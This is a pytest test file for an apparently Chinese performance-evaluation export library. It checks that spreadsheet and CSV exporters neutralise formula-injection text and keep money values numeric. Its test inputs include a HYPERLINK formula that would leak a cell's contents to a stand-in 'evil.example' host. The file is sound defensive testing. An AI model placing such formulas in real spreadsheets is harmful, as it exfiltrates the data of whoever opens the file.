"""Exports are data, not formulas (issue 13 §5): every exporter writes a user's text that starts
like a formula (= + - @, a tab) as text, shown as written, with Excel's quote prefix; numbers,
negative money included, stay numbers."""

import io
import zipfile
from dataclasses import replace
from datetime import date
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from jixiao.core.document import DepartmentGoals, Measure, SubGoal
from jixiao.formats.bank_list import write_bank_list
from jixiao.formats.cells import csv_value, is_risky
from jixiao.formats.evaluation_tables import write_monitoring, write_self_evaluation
from jixiao.formats.writer import write
from jixiao.relief.synthetic import made_up_id

from ..evaluation.helpers import RULES, actual, document, ind, paid, project

TRICKS = ["=1+1", "+1", "-1+2", "@SUM(A1)", '=HYPERLINK("http://evil.example/?leak="&C2,"点击")', "\t=1+1"]


def cells(data: bytes):
    """Every non-empty cell of every sheet, after checking that the file holds no formula."""
    book = load_workbook(io.BytesIO(data))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_text_as_written(data: bytes, texts) -> list:
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    values = [c.value for c in found]
    for text in texts:
        assert text in values, f"{text!r} not written as itself"
    risky = [c for c in found if isinstance(c.value, str) and is_risky(c.value)]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    return found


def tricky_document():
    indicators = [ind("产出指标", "数量指标", text, "≥400人") for text in TRICKS]
    for k, i in enumerate(indicators):
        i.description, i.basis = TRICKS[k], TRICKS[-1 - k]
    p = replace(project(indicators), name=TRICKS[4], purpose=TRICKS[0], goals=TRICKS[:3])
    doc = document(p)
    doc.unit = replace(doc.unit, name=TRICKS[1])
    doc.department = DepartmentGoals("\n".join(TRICKS), [SubGoal(TRICKS[3], TRICKS[2], TRICKS[0])],
                                     [Measure(TRICKS[4])])
    return doc


def test_the_goal_document_xlsx_writes_formula_like_texts_as_text():
    found = assert_text_as_written(write(tricky_document(), "xlsx"), TRICKS)
    money = [c for c in found if c.number_format == "#,##0.00"]
    assert money and all(c.data_type == "n" for c in money)  # 预算数 stays a number


def test_the_monitoring_table_writes_reasons_as_text_and_negative_spending_as_a_number():
    doc = tricky_document()
    doc.department = None
    actuals = [actual(text, "400人", reason=text, measure=TRICKS[-1]) for text in TRICKS]
    from jixiao.evaluation.monitoring import monitor_document

    on, rows = monitor_document(doc, [paid("-1200.00")], actuals, date(2021, 7, 31), RULES)
    found = assert_text_as_written(write_monitoring(doc, on, rows, "xlsx"), TRICKS)
    spent = [c for c in found if c.value == -0.12]  # -1,200.00元 as -0.12万元
    assert spent and all(c.data_type == "n" for c in spent)


def test_the_self_evaluation_table_writes_texts_as_text():
    doc = tricky_document()
    from jixiao.evaluation.scoring import score_document

    actuals = [actual(text, "300人", reason=text) for text in TRICKS]
    scores = score_document(doc, [paid("150000.00"), paid("-1200.00")], actuals, RULES)
    found = assert_text_as_written(write_self_evaluation(doc, scores, "xlsx"), TRICKS)
    assert any(c.value == 14.88 and c.data_type == "n" for c in found)  # 148,800.00元 spent


def test_the_bank_list_writes_every_text_column_as_text_and_negative_money_as_a_number():
    entries = [(text, made_up_id(k), text, text, D("-1200.00") if k == 0 else D("1234.50"))
               for k, text in enumerate(TRICKS)]
    found = assert_text_as_written(write_bank_list(entries, TRICKS[4], approver=TRICKS[3]), TRICKS)
    money = [c.value for c in found if c.column == 6 and c.row > 1]
    assert money == [-1200, *[1234.5] * 5, 4972.5]


def test_plain_texts_and_numbers_are_left_alone():
    data = write_bank_list([("张三", made_up_id(1), "6228480000000000001", "农业银行", D("500"))], "春节")
    plain = [c for c in cells(data) if isinstance(c.value, str)]
    assert plain and not any(c.quotePrefix for c in plain)


@pytest.mark.parametrize("text", TRICKS + ["\r=1+1"])
def test_a_csv_cell_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert csv_value(text) == "'" + text


def test_a_csv_number_stays_a_number_and_plain_text_is_unchanged():
    assert csv_value(D("-1200.00")) == D("-1200.00") and csv_value(-3) == -3
    assert csv_value("张三") == "张三" and csv_value("1,234.50") == "1,234.50"
